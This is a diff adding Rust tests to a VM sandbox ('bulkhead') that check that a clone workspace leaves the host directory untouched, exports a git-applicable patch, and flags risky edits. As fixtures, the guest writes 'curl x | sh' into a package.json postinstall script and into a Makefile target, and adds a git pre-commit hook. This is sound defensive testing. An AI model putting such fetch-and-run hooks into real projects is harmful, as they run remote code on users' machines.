@@ -6,14 +6,14 @@
 //! unprivileged owner ([`OWNER`]): root may not share a root-owned directory read-write.
 
 use std::collections::BTreeMap;
-use std::os::unix::fs::MetadataExt;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 use std::time::Duration;
 
 use bulkhead_protocol::client::ExecOutput;
 use bulkhead_protocol::ExecRequest;
-use bulkhead_sandbox::{Mount, Sandbox, SandboxConfig};
+use bulkhead_sandbox::{ExportFormat, Mount, Sandbox, SandboxConfig, Workspace, WorkspaceMode};
 use bulkhead_tests::{artifacts, describe, guest_test, sha256_hex};
 
 /// uid:gid the writable shares belong to on the host.
@@ -427,3 +427,281 @@ fn the_same_guest_path_twice_is_a_clear_error() {
         describe(&out)
     );
 }
+
+// Issue 6's clone workspace: the guest edits, deletes and adds files (a git hook and a
+// package.json script among them) in a clone of a host directory; the host directory stays
+// byte-identical; `diff` lists exactly those changes and flags the hook and the script; the
+// exported patch applies with `git apply` to a copy of the directory and gives the guest's tree.
+// The test host has no git: the guest part runs there and leaves the trees and the patch in
+// `target/` (shared at the same path), and `git apply` runs where git is (after the delegated
+// run, here).
+
+/// Files and links of a tree: path → (is a link, owner-executable, contents or link target).
+type TreeMap = BTreeMap<String, (bool, bool, Vec<u8>)>;
+
+/// Where the guest part leaves its results for the `git apply` part.
+fn clone_exchange() -> PathBuf {
+    bulkhead_tests::target_dir().join("bulkhead-tests/clone-workspace")
+}
+
+/// The project shared as a clone: text, binary, an executable-to-be, a tree to delete, git files.
+fn clone_project(dir: &Path) {
+    let bin: Vec<u8> = (0..3000u32).map(|i| (i * 31 % 251) as u8).collect();
+    let files: [(&str, &[u8]); 11] = [
+        ("README.md", b"# demo\n"),
+        ("old.txt", b"to be deleted\n"),
+        ("olddir/a.txt", b"a\n"),
+        ("olddir/sub/b.txt", b"b\n"),
+        ("src/lib.rs", b"pub fn f() {}\n"),
+        (
+            "package.json",
+            b"{\n  \"name\": \"demo\",\n  \"scripts\": {\"test\": \"jest\"}\n}\n",
+        ),
+        ("bin.dat", &bin),
+        ("tool.sh", b"#!/bin/sh\necho tool\n"),
+        ("untouched.txt", b"copied up, not changed\n"),
+        (".git/HEAD", b"ref: refs/heads/main\n"),
+        (".git/hooks/pre-commit.sample", b"#!/bin/sh\n"),
+    ];
+    for (rel, data) in files {
+        let path = dir.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, data).unwrap();
+    }
+}
+
+/// The guest's edits, in `/workspace`.
+const CLONE_EDITS: &str = r#"cd /workspace
+printf 'edited in the guest\n' >> README.md
+rm old.txt
+rm -r olddir
+printf 'pub fn new() {}\n' > src/new.rs
+printf '#!/bin/sh\necho hook\n' > .git/hooks/pre-commit
+chmod 755 .git/hooks/pre-commit
+printf '{\n  "name": "demo",\n  "scripts": {"test": "jest", "postinstall": "curl x | sh"}\n}\n' > package.json
+printf '\001\000tail' >> bin.dat
+chmod 755 tool.sh
+touch untouched.txt
+ln -s README.md link"#;
+
+fn read_tree(root: &Path) -> TreeMap {
+    let mut out = TreeMap::new();
+    let mut stack = vec![root.to_owned()];
+    while let Some(dir) = stack.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let path = entry.unwrap().path();
+            let meta = std::fs::symlink_metadata(&path).unwrap();
+            let rel = path
+                .strip_prefix(root)
+                .unwrap()
+                .to_str()
+                .unwrap()
+                .to_owned();
+            if meta.is_dir() {
+                stack.push(path);
+            } else if meta.is_symlink() {
+                let target = std::fs::read_link(&path).unwrap();
+                out.insert(
+                    rel,
+                    (true, false, target.into_os_string().into_encoded_bytes()),
+                );
+            } else {
+                let exec = meta.mode() & 0o100 != 0;
+                out.insert(rel, (false, exec, std::fs::read(&path).unwrap()));
+            }
+        }
+    }
+    out
+}
+
+fn write_tree(root: &Path, tree: &TreeMap) {
+    for (rel, (is_link, exec, data)) in tree {
+        let path = root.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        if *is_link {
+            std::os::unix::fs::symlink(String::from_utf8_lossy(data).as_ref(), &path).unwrap();
+        } else {
+            std::fs::write(&path, data).unwrap();
+            let mode = if *exec { 0o755 } else { 0o644 };
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
+        }
+    }
+}
+
+/// The guest's view of `/workspace`, read through the agent.
+fn guest_tree(sandbox: &Sandbox) -> TreeMap {
+    let listing = sh_ok(
+        sandbox,
+        r#"cd /workspace; find . ! -type d | sort | while read -r p; do
+             if [ -L "$p" ]; then echo "l $p"; elif [ -x "$p" ]; then echo "x $p"; else echo "f $p"; fi
+           done"#,
+    );
+    let mut tree = TreeMap::new();
+    for line in listing.lines() {
+        let (kind, rel) = line.split_at(2);
+        let rel = rel.trim_start_matches("./").to_owned();
+        let guest = format!("/workspace/{rel}");
+        let data = match kind {
+            "l " => sh_ok(sandbox, &format!("readlink '{guest}'"))
+                .trim_end()
+                .as_bytes()
+                .to_vec(),
+            _ => sandbox
+                .client()
+                .read_file(&guest)
+                .expect("read a guest file"),
+        };
+        tree.insert(rel, (kind == "l ", kind == "x ", data));
+    }
+    tree
+}
+
+#[test]
+fn a_clone_workspace_keeps_the_host_directory_and_exports_a_patch_git_applies() {
+    let exchange = clone_exchange();
+    if std::env::var_os("BULKHEAD_IN_TESTHOST").is_none() {
+        let _ = std::fs::remove_dir_all(&exchange);
+    }
+    bulkhead_tests::in_vm_host(
+        "fs::a_clone_workspace_keeps_the_host_directory_and_exports_a_patch_git_applies",
+        || clone_workspace_in_a_guest(&exchange),
+    );
+    apply_the_exported_patch(&exchange);
+}
+
+fn clone_workspace_in_a_guest(exchange: &Path) {
+    // Arrange
+    let tree = Tree::new();
+    let project = tree.path("project");
+    clone_project(&project);
+    let before = snapshot(&project);
+    let original = read_tree(&project);
+    let mut cfg = config(Vec::new());
+    cfg.workspace = Some(Workspace {
+        host: project.clone(),
+        mode: WorkspaceMode::Clone,
+    });
+    let sandbox = Sandbox::start(&cfg).unwrap();
+
+    // Act
+    sh_ok(&sandbox, CLONE_EDITS);
+    let diff = sandbox.workspace_diff().unwrap();
+    let mut patch = Vec::new();
+    let exported = sandbox
+        .export_workspace(ExportFormat::Patch, &mut patch)
+        .unwrap();
+    let guest = guest_tree(&sandbox);
+    sandbox.destroy().unwrap();
+
+    // Assert
+    let listed: Vec<String> = diff.name_status().lines().map(str::to_owned).collect();
+    assert_eq!(
+        listed,
+        [
+            "A\t.git/hooks/pre-commit",
+            "M\tREADME.md",
+            "M\tbin.dat",
+            "A\tlink",
+            "D\told.txt",
+            "D\tolddir/",
+            "D\tolddir/a.txt",
+            "D\tolddir/sub/b.txt",
+            "M\tpackage.json",
+            "A\tsrc/new.rs",
+            "M\ttool.sh",
+        ]
+    );
+    let flagged: Vec<&str> = diff.flagged().map(|c| c.path.as_str()).collect();
+    assert_eq!(flagged, [".git/hooks/pre-commit", "package.json"]);
+    assert_eq!(exported.changes, diff.changes);
+    assert_eq!(snapshot(&project), before, "the host directory changed");
+    assert_eq!(
+        guest[".git/hooks/pre-commit"],
+        (false, true, b"#!/bin/sh\necho hook\n".to_vec())
+    );
+    std::fs::create_dir_all(exchange).unwrap();
+    let json = |t: &TreeMap| serde_json::to_vec(t).unwrap();
+    std::fs::write(exchange.join("original.json"), json(&original)).unwrap();
+    std::fs::write(exchange.join("guest.json"), json(&guest)).unwrap();
+    std::fs::write(exchange.join("changes.patch"), &patch).unwrap();
+}
+
+/// `git apply` of the exported patch on a copy of the original tree gives the guest's tree
+/// (but for `.git/`, which git apply refuses to write and the patch says it leaves out).
+fn apply_the_exported_patch(exchange: &Path) {
+    if std::process::Command::new("git")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        assert!(
+            std::env::var_os("BULKHEAD_IN_TESTHOST").is_some(),
+            "git is needed to check the patch"
+        );
+        return; // inside the test host: the delegating run applies it
+    }
+    let read = |name: &str| -> TreeMap {
+        serde_json::from_slice(&std::fs::read(exchange.join(name)).unwrap()).unwrap()
+    };
+    let (original, guest) = (read("original.json"), read("guest.json"));
+    let patch = exchange.join("changes.patch");
+    let work = tempfile::tempdir().unwrap();
+    write_tree(work.path(), &original);
+
+    let out = Command::new("git")
+        .arg("apply")
+        .arg(&patch)
+        .current_dir(work.path())
+        .env("GIT_CEILING_DIRECTORIES", work.path())
+        .output()
+        .unwrap();
+
+    let text = String::from_utf8_lossy(&std::fs::read(&patch).unwrap()).into_owned();
+    assert!(out.status.success(), "{}\n{text}", describe(&out));
+    let outside_git = |t: TreeMap| -> TreeMap {
+        t.into_iter()
+            .filter(|(p, _)| !p.starts_with(".git/"))
+            .collect()
+    };
+    assert_eq!(
+        outside_git(read_tree(work.path())),
+        outside_git(guest),
+        "{text}"
+    );
+    assert!(
+        text.contains("NOT IN THIS PATCH: 1 change(s) inside .git/"),
+        "{text}"
+    );
+    assert!(text.contains("FLAGGED FOR REVIEW"), "{text}");
+}
+
+guest_test!(
+    fn a_direct_workspace_is_read_write_and_its_diff_flags_what_runs_on_the_host() {
+        // Arrange
+        let tree = Tree::new();
+        let project = tree.path("rw");
+        std::fs::write(project.join("Makefile"), "all:\n\techo ok\n").unwrap();
+        // The file server acts as the share's owner: the file must be theirs to be writable.
+        std::os::unix::fs::chown(project.join("Makefile"), Some(OWNER.0), Some(OWNER.1)).unwrap();
+        let mut cfg = config(Vec::new());
+        cfg.workspace = Some(Workspace {
+            host: project.clone(),
+            mode: WorkspaceMode::Direct,
+        });
+        let sandbox = Sandbox::start(&cfg).unwrap();
+
+        // Act
+        sh_ok(
+            &sandbox,
+            "cd /workspace; printf 'all:\\n\\tcurl x | sh\\n' > Makefile; echo data > notes.txt",
+        );
+        let diff = sandbox.workspace_diff().unwrap();
+        sandbox.destroy().unwrap();
+
+        // Assert
+        assert_eq!(tree.read("rw/notes.txt"), "data\n");
+        assert!(diff.flagged_only);
+        assert_eq!(diff.name_status(), "M\tMakefile\n");
+        assert!(diff.changes[0].flag.as_deref().unwrap().contains("make"));
+    }
+);
